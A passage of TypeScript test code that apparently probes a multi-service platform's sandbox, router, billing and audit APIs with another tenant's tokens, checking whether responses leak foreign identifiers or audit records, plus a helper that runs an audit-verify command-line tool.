      { service: 'sandbox-orchestrator', method: 'POST', path: (i) => `/v1/sandboxes/${i}/executions`, kind: 'sandbox', body: { language: 'python', code: 'print(1)' } },
      { service: 'sandbox-orchestrator', method: 'GET', path: (i) => `/v1/sandboxes/${sandboxOf()}/executions/${i}`, kind: 'execution' },
      { service: 'sandbox-orchestrator', method: 'GET', path: (i) => `/v1/sandboxes/${i}/files?path=notes.txt`, kind: 'sandbox' },
      { service: 'sandbox-orchestrator', method: 'POST', path: (i) => `/v1/sandboxes/${i}/stop`, kind: 'sandbox' },
      { service: 'sandbox-orchestrator', method: 'GET', path: (i) => `/v1/egress-rules/agent:${i}`, kind: 'agent' },
      { service: 'sandbox-orchestrator', method: 'DELETE', path: (i) => `/v1/egress-rules/agent:${i}`, kind: 'agent' },
      { service: 'sandbox-orchestrator', method: 'GET', path: (i) => `/v1/egress-rules/session:${i}`, kind: 'session' },
      { service: 'sandbox-orchestrator', method: 'DELETE', path: (i) => `/v1/egress-rules/session:${i}`, kind: 'session' },
      { service: 'sandbox-orchestrator', method: 'DELETE', path: (i) => `/v1/sandboxes/${i}`, kind: 'sandbox' },
      // llm-router
      { service: 'llm-router', method: 'DELETE', path: (i) => `/v1/router/providers/${i}`, kind: 'provider' },
      { service: 'llm-router', method: 'DELETE', path: (i) => `/v1/router/models/${i}`, kind: 'model' },
      { service: 'llm-router', method: 'DELETE', path: (i) => `/v1/router/routes/${i}`, kind: 'route' },
      // billing
      { service: 'billing', method: 'GET', path: (i) => `/v1/budgets/agent/${i}`, kind: 'agent' },
      { service: 'billing', method: 'DELETE', path: (i) => `/v1/budgets/agent/${i}`, kind: 'agent' },
      { service: 'billing', method: 'GET', path: (i) => `/v1/budgets/team/${i}`, kind: 'team' },
      { service: 'billing', method: 'DELETE', path: (i) => `/v1/budgets/team/${i}`, kind: 'team' },
      // audit
      { service: 'audit', method: 'DELETE', path: (i) => `/v1/audit/subjects/${i}`, kind: 'user' },
      { service: 'audit', method: 'GET', path: (i) => `/v1/audit/feeds/${i}`, kind: 'feed' },
      { service: 'audit', method: 'POST', path: (i) => `/v1/audit/feeds/${i}/pause`, kind: 'feed' },
      { service: 'audit', method: 'POST', path: (i) => `/v1/audit/feeds/${i}/resume`, kind: 'feed' },
      { service: 'audit', method: 'DELETE', path: (i) => `/v1/audit/feeds/${i}`, kind: 'feed' },
    ];
    const callers: Array<[string, string]> = [
      ['rival admin', this.tok.rivalAdmin],
      ['rival auditor', this.tok.rivalAuditor],
      ['rival agent', this.tok.rivalAgent],
    ];
    const foreign = [...new Set([...this.seen.values()].flatMap((s) => [...s]).filter((v) => v.length >= 8)), this.data.aliceEmail, this.data.email];
    const results: Array<{ caller: string; method: string; path: string; status: number; unknownStatus: number; leaked: string[] }> = [];
    for (const route of routes) {
      for (const [caller, token] of callers) {
        const ask = (id: string) => this.call(route.service, route.path(id), token, { method: route.method, ...(route.body ? { body: route.body } : {}) });
        for (const id of first(route.kind)) {
          const r = await ask(id);
          const unknownReply = await ask(unknownOf(id));
          // the id the caller sent may come back in the error message ("… not found"): its own input is no leak
          const asked = `${route.path(id)} ${JSON.stringify(route.body ?? {})}`;
          const leaked = foreign.filter((f) => r.body.includes(f) && !asked.includes(f));
          results.push({ caller, method: route.method, path: `${route.service} ${route.path(id)}`, status: r.status, unknownStatus: unknownReply.status, leaked });
        }
      }
    }
    // the audit log: the rival's auditor names acme's people, agent and the day's event ids as filters
    for (const [caller, token] of callers) {
      for (const [filter, kind] of [['actor', 'agent'], ['actor', 'user'], ['subject', 'user']] as const) {
        for (const id of first(kind)) {
          const path = `/v1/audit/events?${filter}=${encodeURIComponent(id)}&from=${encodeURIComponent(this.since)}&limit=1000`;
          const r = await this.call('audit', path, token);
          const items = (r.json?.items ?? []) as unknown[];
          const unknownReply = await this.call('audit', path.replace(encodeURIComponent(id), encodeURIComponent(unknownOf(id))), token);
          // an answer is "no data" when it holds no record: an empty page (200) for a reader, a refusal for others
          const leaked = [...(items.length > 0 ? [`${items.length} record(s)`] : []), ...foreign.filter((f) => r.body.includes(f) && !path.includes(encodeURIComponent(f)))];
          results.push({ caller, method: 'GET', path: `audit ${path}`, status: r.status, unknownStatus: unknownReply.status, leaked });
        }
      }
    }
    return results;
  }
}

/** `palisade audit verify` on the live topic (services/audit/bin/palisade.js): its exit code and output. */
export function runAuditCli(args: { brokers: string; topic: string; checkpointTopic: string; keysUrl: string }): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [join(REPO, 'services', 'audit', 'bin', 'palisade.js'), 'audit', 'verify', '--brokers', args.brokers, '--topic', args.topic, '--checkpoint-topic', args.checkpointTopic, '--keys-url', args.keysUrl], {
      cwd: REPO,
      env: { ...process.env, PALISADE_HOME: infra('PALISADE_HOME') },
    });
    let out = '';
    let err = '';
    child.stdout.on('data', (c) => (out += c));
    child.stderr.on('data', (c) => (err += c));
    child.once('error', reject);
    child.once('exit', (code) => resolve({ code, out: out.trim(), err: err.trim() }));
  });
}
